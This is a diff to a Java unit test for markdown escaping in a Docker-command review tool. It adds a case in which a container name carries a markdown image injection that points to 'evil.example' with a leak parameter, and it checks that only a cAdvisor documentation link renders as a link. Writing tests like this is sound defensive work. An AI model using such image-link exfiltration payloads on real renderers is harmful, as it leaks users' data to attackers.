@@ -79,6 +79,21 @@ class MarkdownEscapingTest {
   }
 
   @Test
+  void catalogueDocumentation_isALink_whileCallerTextNextToItIsNot() {
+    // cAdvisor's documented run, named by a hostile caller: the review line cites cAdvisor's
+    // documentation as a working link; the caller's name and paths stay text
+    String md =
+        markdown(
+            "docker run --name 'x![pic](https://evil.example/?leak=1)' --privileged"
+                + " -v /sys:/sys:ro gcr.io/cadvisor/cadvisor:v0.47.0",
+            List.of());
+    assertThat(md)
+        .contains(
+            "are missing ([documentation](https://github.com/google/cadvisor/blob/master/docs/running.md)).");
+    assertSafe(md); // and nothing else links: the caller's name stays text
+  }
+
+  @Test
   void waiverReason_isEscapedToo() {
     String md =
         markdown(
@@ -101,6 +116,10 @@ class MarkdownEscapingTest {
    * no bare URL or address can be autolinked, and no control character is left.
    */
   static void assertSafe(String md) {
+    // the only links: the documentation of the catalogue of well-known images (Keycard's data)
+    for (String url : dev.keycard.remediation.Impacts.standard().documentation()) {
+      md = md.replace("([documentation](" + url + "))", "(documentation)");
+    }
     StringBuilder prose = new StringBuilder();
     boolean inBlock = false;
     for (String line : md.split("\n", -1)) {
